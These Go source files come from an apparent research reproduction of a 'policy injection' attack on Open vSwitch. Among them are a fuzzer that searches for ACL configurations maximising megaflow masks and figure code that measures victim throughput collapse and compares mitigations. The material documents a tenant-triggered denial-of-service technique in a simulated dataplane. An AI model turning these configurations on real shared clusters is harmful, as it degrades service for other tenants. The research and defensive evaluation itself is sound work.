			types[family] = typ
			continue
		}
		metric, labels, value, problem := parseSample(line)
		if problem != "" {
			bad("%s", problem)
			continue
		}
		family, suffix := familyOf(metric, types)
		if typ, ok := types[family]; ok {
			if !suffixAllowed(typ, suffix, labels) {
				bad("sample %s does not fit declared %s family %s", metric, typ, family)
			}
		}
		sampled[family] = true
		samples++
		_ = value
	}
	return problems, samples, sc.Err()
}

// parseComment validates a # line; TYPE lines return the family+type.
func parseComment(line string) (family, typ string, isType bool, problem string) {
	fields := strings.Fields(line)
	if len(fields) < 2 {
		return "", "", false, "" // bare comment
	}
	switch fields[1] {
	case "TYPE":
		if len(fields) != 4 { // "# TYPE name type"
			return "", "", false, "malformed TYPE line"
		}
		family, typ = fields[2], fields[3]
		if !validName(family) {
			return "", "", false, fmt.Sprintf("TYPE with illegal metric name %q", family)
		}
		switch typ {
		case "counter", "gauge", "summary", "histogram", "untyped":
			return family, typ, true, ""
		}
		return "", "", false, fmt.Sprintf("unknown metric type %q", typ)
	case "HELP":
		if len(fields) < 3 {
			return "", "", false, "malformed HELP line"
		}
		if !validName(fields[2]) {
			return "", "", false, fmt.Sprintf("HELP with illegal metric name %q", fields[2])
		}
	}
	return "", "", false, ""
}

// parseSample validates `name{labels} value [timestamp]`.
func parseSample(line string) (metric string, labels map[string]string, value float64, problem string) {
	rest := line
	i := strings.IndexAny(rest, "{ ")
	if i < 0 {
		return "", nil, 0, "sample without value"
	}
	metric = rest[:i]
	if !validName(metric) {
		return "", nil, 0, fmt.Sprintf("illegal metric name %q", metric)
	}
	rest = rest[i:]
	if rest[0] == '{' {
		end := strings.LastIndex(rest, "}")
		if end < 0 {
			return "", nil, 0, "unterminated label set"
		}
		var p string
		labels, p = parseLabels(rest[1:end])
		if p != "" {
			return "", nil, 0, p
		}
		rest = rest[end+1:]
	}
	fields := strings.Fields(rest)
	if len(fields) < 1 || len(fields) > 2 {
		return "", nil, 0, "want `value [timestamp]` after metric"
	}
	v, err := strconv.ParseFloat(fields[0], 64)
	if err != nil {
		return "", nil, 0, fmt.Sprintf("bad sample value %q", fields[0])
	}
	if len(fields) == 2 {
		if _, err := strconv.ParseInt(fields[1], 10, 64); err != nil {
			return "", nil, 0, fmt.Sprintf("bad timestamp %q", fields[1])
		}
	}
	return metric, labels, v, ""
}

// parseLabels validates the inside of a {...} label set.
func parseLabels(s string) (map[string]string, string) {
	labels := map[string]string{}
	for len(s) > 0 {
		eq := strings.Index(s, "=")
		if eq < 0 {
			return nil, fmt.Sprintf("label %q without =", s)
		}
		name := s[:eq]
		if !validLabelName(name) {
			return nil, fmt.Sprintf("illegal label name %q", name)
		}
		s = s[eq+1:]
		if len(s) == 0 || s[0] != '"' {
			return nil, fmt.Sprintf("label %s value is not quoted", name)
		}
		// Walk the quoted value honoring \" escapes.
		end := -1
		for i := 1; i < len(s); i++ {
			if s[i] == '\\' {
				i++
				continue
			}
			if s[i] == '"' {
				end = i
				break
			}
		}
		if end < 0 {
			return nil, fmt.Sprintf("unterminated value for label %s", name)
		}
		if _, dup := labels[name]; dup {
			return nil, fmt.Sprintf("duplicate label %s", name)
		}
		labels[name] = s[1:end]
		s = s[end+1:]
		if len(s) > 0 {
			if s[0] != ',' {
				return nil, fmt.Sprintf("junk after label %s", name)
			}
			s = s[1:]
		}
	}
	return labels, ""
}

// familyOf strips the conventional suffix a typed family allows, when a
// declared summary/histogram family actually claims it (`foo_count` is
// a child of summary `foo`, but an independent metric next to counter
// `foo`).
func familyOf(metric string, types map[string]string) (family, suffix string) {
	for _, suf := range []string{"_sum", "_count", "_bucket"} {
		if base, ok := strings.CutSuffix(metric, suf); ok {
			if t := types[base]; t == "summary" || t == "histogram" {
				return base, suf
			}
		}
	}
	return metric, ""
}

// suffixAllowed reports whether a sample with the given suffix (and
// labels, for summary quantile series) fits a family of type typ.
func suffixAllowed(typ, suffix string, labels map[string]string) bool {
	switch typ {
	case "summary":
		_, hasQ := labels["quantile"]
		return suffix == "_sum" || suffix == "_count" || (suffix == "" && hasQ)
	case "histogram":
		return suffix == "_sum" || suffix == "_count" || suffix == "_bucket"
	default:
		return suffix == ""
	}
}

// validName reports whether s is a legal metric name:
// [a-zA-Z_:][a-zA-Z0-9_:]*.
func validName(s string) bool {
	if s == "" {
		return false
	}
	for i, r := range s {
		ok := r == '_' || r == ':' ||
			(r >= 'a' && r <= 'z') || (r >= 'A' && r <= 'Z') ||
			(i > 0 && r >= '0' && r <= '9')
		if !ok {
			return false
		}
	}
	return true
}

// validLabelName reports whether s is a legal label name:
// [a-zA-Z_][a-zA-Z0-9_]*.
func validLabelName(s string) bool {
	if s == "" {
		return false
	}
	for i, r := range s {
		ok := r == '_' ||
			(r >= 'a' && r <= 'z') || (r >= 'A' && r <= 'Z') ||
			(i > 0 && r >= '0' && r <= '9')
		if !ok {
			return false
		}
	}
	return true
}
