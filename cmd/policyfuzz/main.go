// Command policyfuzz searches the space of CMS-acceptable whitelist
// policies for the configurations that mint the most megaflow masks — a
// SlowFuzz-style (paper ref [5]) complexity-attack search specialised to
// policy injection, and the paper's "how bad can it get" extension.
//
// The fuzzer mutates attack configurations (target field subsets, allow
// values, prefix widths), executes each candidate's covert stream against
// a fresh dataplane carrying a realistic background policy set, and hill
// climbs on the number of masks actually injected. Co-resident policies
// perturb trie divergence depths, so measured fitness differs from the
// analytic w₁·w₂·… prediction — quantifying that gap is the point.
//
//	policyfuzz -budget 200 -seed 7 -top 5
package main

import (
	"flag"
	"fmt"
	"math/rand"
	"net/netip"
	"os"
	"sort"
	"strings"

	"policyinject/internal/acl"
	"policyinject/internal/attack"
	"policyinject/internal/cms"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
)

var candidateFields = []flow.FieldID{
	flow.FieldIPSrc, flow.FieldIPDst, flow.FieldTPSrc, flow.FieldTPDst,
}

type candidate struct {
	atk     *attack.Attack
	masks   int // measured
	predict int
}

func (c candidate) String() string {
	var parts []string
	for _, t := range c.atk.Fields {
		w := t.Width
		if w == 0 {
			w = t.Field.Bits()
		}
		parts = append(parts, fmt.Sprintf("%s=%#x/%d", t.Field.Name(), t.Allow, w))
	}
	return fmt.Sprintf("masks=%-5d (predicted %-5d) %s", c.masks, c.predict, strings.Join(parts, " "))
}

func main() {
	budget := flag.Int("budget", 120, "candidate evaluations")
	seed := flag.Int64("seed", 1, "PRNG seed")
	top := flag.Int("top", 5, "leaderboard size")
	maxMasks := flag.Int("max", 2048, "skip candidates predicting more masks (keeps runs fast)")
	flag.Parse()

	rng := rand.New(rand.NewSource(*seed))
	var best []candidate

	cur := randomConfig(rng, *maxMasks)
	curFit := evaluate(cur)
	best = append(best, candidate{cur, curFit, cur.PredictedMasks()})

	for i := 1; i < *budget; i++ {
		var next *attack.Attack
		if rng.Intn(4) == 0 {
			next = randomConfig(rng, *maxMasks)
		} else {
			next = mutate(rng, cur, *maxMasks)
		}
		if next.Validate() != nil {
			continue
		}
		fit := evaluate(next)
		best = append(best, candidate{next, fit, next.PredictedMasks()})
		if fit >= curFit { // climb (ties move: plateau exploration)
			cur, curFit = next, fit
		}
	}

	sort.Slice(best, func(i, j int) bool { return best[i].masks > best[j].masks })
	fmt.Printf("policyfuzz: %d candidates evaluated, top %d:\n", *budget, *top)
	seen := map[string]bool{}
	shown := 0
	for _, c := range best {
		s := c.String()
		if seen[s] {
			continue
		}
		seen[s] = true
		fmt.Println(" ", s)
		shown++
		if shown >= *top {
			break
		}
	}
	if len(best) == 0 {
		fmt.Fprintln(os.Stderr, "policyfuzz: no viable candidates")
		os.Exit(1)
	}
}

func randomConfig(rng *rand.Rand, maxMasks int) *attack.Attack {
	for {
		n := 1 + rng.Intn(3)
		perm := rng.Perm(len(candidateFields))
		atk := &attack.Attack{}
		for i := 0; i < n; i++ {
			f := candidateFields[perm[i]]
			atk.Fields = append(atk.Fields, randomField(rng, f))
		}
		if atk.PredictedMasks() <= maxMasks {
			return atk
		}
	}
}

func randomField(rng *rand.Rand, f flow.FieldID) attack.TargetField {
	t := attack.TargetField{Field: f}
	switch f {
	case flow.FieldIPSrc, flow.FieldIPDst:
		t.Allow = rng.Uint64() & 0xffffffff
		t.Width = 1 + rng.Intn(32)
	default:
		t.Allow = uint64(rng.Intn(65536))
		t.Width = 1 + rng.Intn(16)
	}
	return t
}

func mutate(rng *rand.Rand, base *attack.Attack, maxMasks int) *attack.Attack {
	out := &attack.Attack{Fields: append([]attack.TargetField(nil), base.Fields...)}
	switch rng.Intn(3) {
	case 0: // widen or narrow a field
		i := rng.Intn(len(out.Fields))
		t := &out.Fields[i]
		t.Width += rng.Intn(9) - 4
		if t.Width < 1 {
			t.Width = 1
		}
		if t.Width > t.Field.Bits() {
			t.Width = t.Field.Bits()
		}
	case 1: // rechoose an allow value
		i := rng.Intn(len(out.Fields))
		out.Fields[i] = randomField(rng, out.Fields[i].Field)
		out.Fields[i].Width = base.Fields[i].Width
	default: // add or drop a field
		if len(out.Fields) > 1 && rng.Intn(2) == 0 {
			i := rng.Intn(len(out.Fields))
			out.Fields = append(out.Fields[:i], out.Fields[i+1:]...)
		} else {
			have := map[flow.FieldID]bool{}
			for _, t := range out.Fields {
				have[t.Field] = true
			}
			var free []flow.FieldID
			for _, f := range candidateFields {
				if !have[f] {
					free = append(free, f)
				}
			}
			if len(free) > 0 {
				out.Fields = append(out.Fields, randomField(rng, free[rng.Intn(len(free))]))
			}
		}
	}
	if out.PredictedMasks() > maxMasks {
		return base
	}
	return out
}

// evaluate measures the candidate's real fitness: masks injected into a
// dataplane that already carries a victim tenant's policies (the realistic
// background that perturbs trie depths).
func evaluate(atk *attack.Attack) int {
	cluster := cms.NewCluster()
	cluster.SwitchOpts = []dataplane.Option{dataplane.WithoutEMC()}
	if _, err := cluster.AddNode("hv"); err != nil {
		return 0
	}
	victim, err := cluster.DeployPod("victim", "svc", "hv")
	if err != nil {
		return 0
	}
	attacker, err := cluster.DeployPod("mallory", "probe", "hv")
	if err != nil {
		return 0
	}
	// Background: the victim's own microsegmentation.
	if err := cluster.ApplyPolicy("victim", "svc", &cms.Policy{
		Name: "svc-ingress",
		Ingress: []acl.Entry{
			{Src: netip.MustParsePrefix("10.10.0.0/24"), Proto: 6, DstPort: acl.Port(443)},
			{Src: netip.MustParsePrefix("192.168.7.0/28"), Proto: 6, DstPort: acl.Port(9090)},
		},
	}); err != nil {
		return 0
	}
	atk.DstIP = attacker.IP
	theACL, err := atk.BuildACL()
	if err != nil {
		return 0
	}
	if err := cluster.ApplyPolicy("mallory", "probe", &cms.Policy{
		Name: "fuzzed", Ingress: theACL.Entries, AllowSrcPortFilters: true,
	}); err != nil {
		return 0
	}
	sw := attacker.Node.Switch
	keys, err := atk.Keys()
	if err != nil {
		return 0
	}
	for i := range keys {
		keys[i].Set(flow.FieldInPort, uint64(attacker.Port))
	}
	sw.ProcessBatch(1, keys, nil)
	_ = victim
	return sw.Megaflow().NumMasks()
}
