// Command figures regenerates every table and figure of the paper's
// evaluation from the Go reproduction:
//
//	figures -fig 2b          paper Fig. 2b: megaflow table for the simple ACL
//	figures -fig masks       §2 mask-count table: 8 / 512 / 8192
//	figures -fig sweep       §1-§2 degradation claims: cost vs mask count
//	figures -fig 3           paper Fig. 3: victim throughput + megaflows over time
//	figures -fig flowlimit   revalidator flow-limit collapse under the 8192-mask attack
//	figures -fig mitigation  demo discussion: mitigation comparison
//	figures -fig all         everything above
//
// Output is plain text tables plus optional CSV/gnuplot blocks (-csv).
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"policyinject/internal/attack"
	"policyinject/internal/classifier"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/metrics"
	"policyinject/internal/mitigation"
	"policyinject/internal/sim"
)

func main() {
	fig := flag.String("fig", "all", "figure to regenerate: 2b, masks, sweep, 3, flowlimit, mitigation, all")
	csv := flag.Bool("csv", false, "also print CSV/gnuplot data blocks")
	duration := flag.Int("duration", 150, "fig 3: timeline length in seconds")
	attackStart := flag.Int("attack-start", 60, "fig 3: covert stream start second")
	quick := flag.Bool("quick", false, "fig 3: shrink to a 30s timeline with the 512-mask attack")
	flag.Parse()

	ok := false
	run := func(name string, f func(bool) error) {
		if *fig != "all" && *fig != name {
			return
		}
		ok = true
		if err := f(*csv); err != nil {
			fmt.Fprintf(os.Stderr, "figures: %s: %v\n", name, err)
			os.Exit(1)
		}
	}
	run("2b", fig2b)
	run("masks", figMasks)
	run("sweep", figSweep)
	run("3", func(csv bool) error { return fig3(csv, *duration, *attackStart, *quick) })
	run("flowlimit", func(csv bool) error { return figFlowLimit(csv, *quick) })
	run("mitigation", figMitigation)
	if !ok {
		fmt.Fprintf(os.Stderr, "figures: unknown figure %q\n", *fig)
		os.Exit(2)
	}
}

func header(title string) {
	fmt.Println()
	fmt.Println(title)
	fmt.Println(strings.Repeat("=", len(title)))
}

// fig2b prints the exact megaflow table of paper Fig. 2b: the
// non-overlapping entries OVS synthesises for "allow 10.0.0.0/8, deny *",
// viewed through the first octet of ip_src.
func fig2b(bool) error {
	header("Fig. 2b — megaflow cache entries for ACL {allow ip_src=10.0.0.0/8; deny *}")

	var tbl flowtable.Table
	cls := classifier.New(classifier.Config{})
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a000000)
	m.Mask.SetPrefix(flow.FieldIPSrc, 8)
	for _, r := range []flowtable.Rule{
		{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}},
		{Priority: 0},
	} {
		cls.Insert(tbl.Insert(r))
	}

	// One probe per divergence depth, in the figure's row order.
	probes := []uint64{0x0a, 0x80, 0x40, 0x20, 0x10, 0x00, 0x0c, 0x08, 0x0b}
	out := &metrics.Table{Header: []string{"Key", "Mask", "Action"}}
	masks := map[flow.Mask]bool{}
	for _, p := range probes {
		var k flow.Key
		k.Set(flow.FieldIPSrc, p<<24)
		res := cls.Lookup(k)
		key := res.Megaflow.Key.Get(flow.FieldIPSrc) >> 24
		mask := res.Megaflow.Mask.Apply(flow.Key(flow.ExactMask)).Get(flow.FieldIPSrc) >> 24
		out.AddRow(fmt.Sprintf("%08b", key), fmt.Sprintf("%08b", mask), res.Rule.Action.String())
		masks[res.Megaflow.Mask] = true
	}
	fmt.Print(out.String())
	fmt.Printf("entries: %d, distinct masks: %d (paper: \"creates 8 masks and so 8 iterations\")\n",
		len(probes), len(masks))
	return nil
}

// figMasks prints the §2 mask-count table: predicted and injected masks
// for the three attack configurations.
func figMasks(bool) error {
	header("§2 mask counts — predicted vs injected on a live dataplane")
	out := &metrics.Table{Header: []string{"ACL fields", "predicted", "injected", "covert stream"}}
	for _, c := range []struct {
		name string
		atk  *attack.Attack
	}{
		{"ip_src/8 (Fig 2 illustration)", attack.SingleField()},
		{"ip_src + tp_dst (\"2 ACL rules\")", attack.TwoField()},
		{"ip_src + tp_dst + tp_src (Calico)", attack.ThreeField()},
	} {
		sw, err := buildAttackSwitch(c.atk)
		if err != nil {
			return err
		}
		v, err := c.atk.Execute(sw, 1)
		if err != nil {
			return err
		}
		out.AddRow(c.name, v.Predicted, v.Injected, c.atk.Plan(10).String())
	}
	fmt.Print(out.String())
	fmt.Println("paper: 8 masks (Fig 2b), 512 masks (\"slows to 10% of peak\"), 8192 (\"full-blown DoS\")")
	return nil
}

// buildAttackSwitch compiles the attack's ACL into a fresh switch.
func buildAttackSwitch(atk *attack.Attack) (*dataplane.Switch, error) {
	sw := dataplane.New("victim-hv")
	theACL, err := atk.BuildACL()
	if err != nil {
		return nil, err
	}
	rules, err := theACL.Compile()
	if err != nil {
		return nil, err
	}
	for _, r := range rules {
		sw.InstallRule(r)
	}
	return sw, nil
}

func figSweep(csv bool) error {
	header("Degradation sweep — TSS lookup cost vs megaflow mask count (E5)")
	res, err := sim.RunSweep([]int{1, 8, 64, 512, 2048, 8192}, 512)
	if err != nil {
		return err
	}
	fmt.Print(res.Table().String())
	fmt.Println("paper claims: 512 masks -> ~10% of peak; 8192 -> denial of service")
	if csv {
		for _, p := range res.Points {
			fmt.Printf("%d,%d,%.0f,%.4f\n", p.Masks, p.CostPerPkt.Nanoseconds(), p.PPS, p.RelativePeak)
		}
	}
	return nil
}

func fig3(csv bool, duration, attackStart int, quick bool) error {
	header("Fig. 3 — OVS degradation in Kubernetes (victim throughput & megaflows)")
	cfg := sim.Fig3Config{Duration: duration, AttackStart: attackStart}
	if quick {
		cfg = sim.Fig3Config{Duration: 30, AttackStart: 10, Attack: attack.TwoField(), FrameLen: 128}
	}
	res, err := sim.RunFig3(cfg)
	if err != nil {
		return err
	}
	// SMC curve: the same timeline on the OVS ≥ 2.10 hierarchy. The huge
	// signature-match cache keeps warm victim flows off the exploded mask
	// scan, so the post-attack plateau recovers — the post-paper
	// counterpoint the SMC knob exists to show.
	smcCfg := cfg
	smcCfg.SMC = true
	smcRes, err := sim.RunFig3(smcCfg)
	if err != nil {
		return err
	}
	// Staged-pruning curve: the OVS countermeasure pair (staged subtable
	// indices + ports filter). The mask count still explodes — nothing is
	// evicted — but victim packets reject the covert ladder without hash
	// probes, so the throughput curve barely dips.
	prunedCfg := cfg
	prunedCfg.StagedPruning = true
	prunedRes, err := sim.RunFig3(prunedCfg)
	if err != nil {
		return err
	}
	fmt.Printf("vanilla: %v\n", res)
	fmt.Printf("smc:     %v\n", smcRes)
	fmt.Printf("pruned:  %v\n", prunedRes)
	out := &metrics.Table{Header: []string{"t[s]", "victim_gbps", "victim_gbps(smc)", "victim_gbps(pruned)", "masks", "megaflows"}}
	for i := 0; i < res.Throughput.Len(); i += 5 {
		out.AddRow(res.Throughput.T[i], res.Throughput.V[i], smcRes.Throughput.V[i], prunedRes.Throughput.V[i],
			res.Masks.V[i], res.Megaflows.V[i])
	}
	fmt.Print(out.String())
	if csv {
		// Rename the variant series so the blocks stay distinguishable to
		// CSV consumers.
		smcRes.Throughput.Name = "victim_gbps_smc"
		smcRes.Masks.Name = "mf_masks_smc"
		smcRes.Megaflows.Name = "mf_entries_smc"
		prunedRes.Throughput.Name = "victim_gbps_pruned"
		prunedRes.Masks.Name = "mf_masks_pruned"
		prunedRes.Megaflows.Name = "mf_entries_pruned"
		fmt.Println(metrics.CSV(res.Throughput, res.Masks, res.Megaflows))
		fmt.Println(metrics.CSV(smcRes.Throughput, smcRes.Masks, smcRes.Megaflows))
		fmt.Println(metrics.CSV(prunedRes.Throughput, prunedRes.Masks, prunedRes.Megaflows))
	}
	return nil
}

// figFlowLimit plots the revalidator's flow-limit-vs-time curve under the
// 8192-mask attack, adaptive heuristic against the fixed-limit control:
// the limit collapses from the 200k ceiling to the 2k floor within a few
// dump rounds of the covert stream landing, while the control holds flat
// (and keeps every attacker flow resident).
func figFlowLimit(csv bool, quick bool) error {
	cfg := sim.FlowLimitConfig{}
	masks := 8192
	if quick {
		// Smaller attack with a harder-overrunning dump, and a floor below
		// the 512-flow residency, so the collapse reaches the floor and the
		// staleness trim engages within the short timeline.
		cfg = sim.FlowLimitConfig{Duration: 48, AttackStart: 8, Attack: attack.TwoField(),
			Interval: 4, DumpRate: 16, MinFlowLimit: 256, FrameLen: 128}
		masks = 512
	}
	header(fmt.Sprintf("Flow-limit collapse — revalidator backoff under the %d-mask attack", masks))
	adaptive, err := sim.RunFlowLimit(cfg)
	if err != nil {
		return err
	}
	fixedCfg := cfg
	fixedCfg.FixedLimit = true
	fixed, err := sim.RunFlowLimit(fixedCfg)
	if err != nil {
		return err
	}
	fmt.Printf("adaptive: %v\n", adaptive)
	fmt.Printf("fixed:    %v\n", fixed)
	limA, limF := adaptive.Timeline.Series("flow_limit"), fixed.Timeline.Series("flow_limit")
	out := &metrics.Table{Header: []string{
		"t", "flow_limit", "flow_limit(fixed)", "flows", "dump_units", "trimmed", "masks", "victim_gbps"}}
	for i := 0; i < limA.Len(); i += 5 {
		out.AddRow(limA.T[i], limA.V[i], limF.V[i],
			adaptive.Timeline.Series("flows_dumped").V[i],
			adaptive.Timeline.Series("dump_units").V[i],
			adaptive.Timeline.Series("evicted_limit").V[i],
			adaptive.Timeline.Series("mf_masks").V[i],
			adaptive.Timeline.Series("victim_gbps").V[i])
	}
	fmt.Print(out.String())
	fmt.Println("OVS heuristic: dump overruns 2x its interval -> limit cut by the overrun factor; healthy dumps regrow by 1000")
	if csv {
		fmt.Println(adaptive.Timeline.CSV())
		limF.Name = "flow_limit_fixed"
		fmt.Println(metrics.CSV(limF))
	}
	return nil
}

func figMitigation(bool) error {
	header("Mitigation comparison under the 512-mask attack (demo discussion)")
	outcomes, err := mitigation.Evaluate(attack.TwoField(), []mitigation.Variant{
		mitigation.Vanilla(),
		mitigation.NoEMC(),
		mitigation.SMC(),
		mitigation.EMCPlusSMC(),
		mitigation.SortedTSS(),
		mitigation.StagedPruning(),
		mitigation.MaskCap(64),
		mitigation.MaskCapLRUSorted(64),
		mitigation.FixedFlowLimit(),
		mitigation.AdaptiveFlowLimit(),
		mitigation.Stateful(),
		mitigation.CacheLess(),
	}, 256)
	if err != nil {
		return err
	}
	fmt.Print(mitigation.Table(outcomes).String())
	return nil
}
