// Command figures regenerates every table and figure of the paper's
// evaluation from the Go reproduction:
//
//	figures -fig 2b          paper Fig. 2b: megaflow table for the simple ACL
//	figures -fig masks       §2 mask-count table: 8 / 512 / 8192
//	figures -fig sweep       §1-§2 degradation claims: cost vs mask count
//	figures -fig 3           paper Fig. 3: victim throughput + megaflows over time
//	figures -fig flowlimit   revalidator flow-limit collapse under the 8192-mask attack
//	figures -fig guard       overload guards: kill-switch, admission breaker, mask quota
//	figures -fig mitigation  demo discussion: mitigation comparison
//	figures -fig all         everything above
//
// Output is plain text tables plus optional CSV/gnuplot blocks (-csv).
//
// The timeline and matrix figures (3, flowlimit, guard, mitigation) execute the
// corresponding embedded scenario packs (see scenarios/ and cmd/scenario);
// the remaining figures drive the dataplane directly.
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"

	"policyinject/internal/attack"
	"policyinject/internal/classifier"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/metrics"
	"policyinject/internal/mitigation"
	"policyinject/internal/scenario"
	"policyinject/internal/sim"
	"policyinject/scenarios"
)

func main() {
	fig := flag.String("fig", "all", "figure to regenerate: 2b, masks, sweep, 3, flowlimit, guard, mitigation, all")
	csv := flag.Bool("csv", false, "also print CSV/gnuplot data blocks")
	duration := flag.Int("duration", 150, "fig 3: timeline length in seconds")
	attackStart := flag.Int("attack-start", 60, "fig 3: covert stream start second")
	quick := flag.Bool("quick", false, "fig 3: shrink to a 30s timeline with the 512-mask attack")
	flag.Parse()

	ok := false
	run := func(name string, f func(bool) error) {
		if *fig != "all" && *fig != name {
			return
		}
		ok = true
		if err := f(*csv); err != nil {
			fmt.Fprintf(os.Stderr, "figures: %s: %v\n", name, err)
			os.Exit(1)
		}
	}
	run("2b", fig2b)
	run("masks", figMasks)
	run("sweep", figSweep)
	run("3", func(csv bool) error { return fig3(csv, *duration, *attackStart, *quick) })
	run("flowlimit", func(csv bool) error { return figFlowLimit(csv, *quick) })
	run("guard", figGuard)
	run("mitigation", figMitigation)
	if !ok {
		fmt.Fprintf(os.Stderr, "figures: unknown figure %q\n", *fig)
		os.Exit(2)
	}
}

func header(title string) {
	fmt.Println()
	fmt.Println(title)
	fmt.Println(strings.Repeat("=", len(title)))
}

// fig2b prints the exact megaflow table of paper Fig. 2b: the
// non-overlapping entries OVS synthesises for "allow 10.0.0.0/8, deny *",
// viewed through the first octet of ip_src.
func fig2b(bool) error {
	header("Fig. 2b — megaflow cache entries for ACL {allow ip_src=10.0.0.0/8; deny *}")

	var tbl flowtable.Table
	cls := classifier.New(classifier.Config{})
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a000000)
	m.Mask.SetPrefix(flow.FieldIPSrc, 8)
	for _, r := range []flowtable.Rule{
		{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}},
		{Priority: 0},
	} {
		cls.Insert(tbl.Insert(r))
	}

	// One probe per divergence depth, in the figure's row order.
	probes := []uint64{0x0a, 0x80, 0x40, 0x20, 0x10, 0x00, 0x0c, 0x08, 0x0b}
	out := &metrics.Table{Header: []string{"Key", "Mask", "Action"}}
	masks := map[flow.Mask]bool{}
	for _, p := range probes {
		var k flow.Key
		k.Set(flow.FieldIPSrc, p<<24)
		res := cls.Lookup(k)
		key := res.Megaflow.Key.Get(flow.FieldIPSrc) >> 24
		mask := res.Megaflow.Mask.Apply(flow.Key(flow.ExactMask)).Get(flow.FieldIPSrc) >> 24
		out.AddRow(fmt.Sprintf("%08b", key), fmt.Sprintf("%08b", mask), res.Rule.Action.String())
		masks[res.Megaflow.Mask] = true
	}
	fmt.Print(out.String())
	fmt.Printf("entries: %d, distinct masks: %d (paper: \"creates 8 masks and so 8 iterations\")\n",
		len(probes), len(masks))
	return nil
}

// figMasks prints the §2 mask-count table: predicted and injected masks
// for the three attack configurations.
func figMasks(bool) error {
	header("§2 mask counts — predicted vs injected on a live dataplane")
	out := &metrics.Table{Header: []string{"ACL fields", "predicted", "injected", "covert stream"}}
	for _, c := range []struct {
		name string
		atk  *attack.Attack
	}{
		{"ip_src/8 (Fig 2 illustration)", attack.SingleField()},
		{"ip_src + tp_dst (\"2 ACL rules\")", attack.TwoField()},
		{"ip_src + tp_dst + tp_src (Calico)", attack.ThreeField()},
	} {
		sw, err := buildAttackSwitch(c.atk)
		if err != nil {
			return err
		}
		v, err := c.atk.Execute(sw, 1)
		if err != nil {
			return err
		}
		out.AddRow(c.name, v.Predicted, v.Injected, c.atk.Plan(10).String())
	}
	fmt.Print(out.String())
	fmt.Println("paper: 8 masks (Fig 2b), 512 masks (\"slows to 10% of peak\"), 8192 (\"full-blown DoS\")")
	return nil
}

// buildAttackSwitch compiles the attack's ACL into a fresh switch.
func buildAttackSwitch(atk *attack.Attack) (*dataplane.Switch, error) {
	sw := dataplane.New("victim-hv")
	theACL, err := atk.BuildACL()
	if err != nil {
		return nil, err
	}
	rules, err := theACL.Compile()
	if err != nil {
		return nil, err
	}
	for _, r := range rules {
		sw.InstallRule(r)
	}
	return sw, nil
}

func figSweep(csv bool) error {
	header("Degradation sweep — TSS lookup cost vs megaflow mask count (E5)")
	res, err := sim.RunSweep([]int{1, 8, 64, 512, 2048, 8192}, 512)
	if err != nil {
		return err
	}
	fmt.Print(res.Table().String())
	fmt.Println("paper claims: 512 masks -> ~10% of peak; 8192 -> denial of service")
	if csv {
		for _, p := range res.Points {
			fmt.Printf("%d,%d,%.0f,%.4f\n", p.Masks, p.CostPerPkt.Nanoseconds(), p.PPS, p.RelativePeak)
		}
	}
	return nil
}

// loadPack pulls a pack from the embedded starter corpus.
func loadPack(file string) (*scenario.Pack, error) {
	p, err := scenario.LoadFS(scenarios.FS, file)
	if err != nil {
		return nil, err
	}
	return p, nil
}

// runByName indexes a pack result's variant runs.
func runByName(res *scenario.Result, name string) (*scenario.VariantRun, error) {
	for _, r := range res.Runs {
		if r.Variant == name {
			return r, nil
		}
	}
	return nil, fmt.Errorf("pack %s has no variant %q", res.Pack, name)
}

// fig3Summary renders a timeline run in the legacy Fig3Result shape.
func fig3Summary(r *scenario.VariantRun) string {
	s := r.Summary
	return fmt.Sprintf("victim %.3f -> %.3f Gbps (%.0f%% degradation), peak %d megaflow masks",
		s["mean_before"], s["mean_after"], s["degradation"]*100, int(s["peak_masks"]))
}

// renamed returns a copy of a timeline series under a variant-qualified
// name, so the CSV blocks stay distinguishable to consumers.
func renamed(r *scenario.VariantRun, series, suffix string) *metrics.Series {
	s := *r.Timeline.Series(series)
	s.Name += suffix
	return &s
}

// fig3 runs the fig3 scenario pack (fig3-quick under -quick): the same
// vanilla / smc / staged-pruning triple the hand-wired timeline used to
// build, now declared in scenarios/fig3.yaml. The smc variant is the
// post-paper counterpoint (the huge signature-match cache keeps warm
// victim flows off the exploded mask scan); the pruned variant shows the
// OVS countermeasure pair rejecting the covert ladder without hash
// probes while the mask count still explodes.
func fig3(csv bool, duration, attackStart int, quick bool) error {
	header("Fig. 3 — OVS degradation in Kubernetes (victim throughput & megaflows)")
	file := "fig3.yaml"
	opt := scenario.RunOptions{Duration: duration, AttackStart: attackStart}
	if quick {
		file, opt = "fig3-quick.yaml", scenario.RunOptions{}
	}
	pack, err := loadPack(file)
	if err != nil {
		return err
	}
	res, err := scenario.Run(pack, opt)
	if err != nil {
		return err
	}
	vanilla, err := runByName(res, "vanilla")
	if err != nil {
		return err
	}
	smc, err := runByName(res, "smc")
	if err != nil {
		return err
	}
	pruned, err := runByName(res, "pruned")
	if err != nil {
		return err
	}
	fmt.Printf("vanilla: %s\n", fig3Summary(vanilla))
	fmt.Printf("smc:     %s\n", fig3Summary(smc))
	fmt.Printf("pruned:  %s\n", fig3Summary(pruned))
	thr := vanilla.Timeline.Series("victim_gbps")
	masks := vanilla.Timeline.Series("mf_masks")
	entries := vanilla.Timeline.Series("mf_entries")
	out := &metrics.Table{Header: []string{"t[s]", "victim_gbps", "victim_gbps(smc)", "victim_gbps(pruned)", "masks", "megaflows"}}
	for i := 0; i < thr.Len(); i += 5 {
		out.AddRow(thr.T[i], thr.V[i], smc.Timeline.Series("victim_gbps").V[i],
			pruned.Timeline.Series("victim_gbps").V[i], masks.V[i], entries.V[i])
	}
	fmt.Print(out.String())
	if csv {
		fmt.Println(metrics.CSV(thr, masks, entries))
		fmt.Println(metrics.CSV(renamed(smc, "victim_gbps", "_smc"),
			renamed(smc, "mf_masks", "_smc"), renamed(smc, "mf_entries", "_smc")))
		fmt.Println(metrics.CSV(renamed(pruned, "victim_gbps", "_pruned"),
			renamed(pruned, "mf_masks", "_pruned"), renamed(pruned, "mf_entries", "_pruned")))
	}
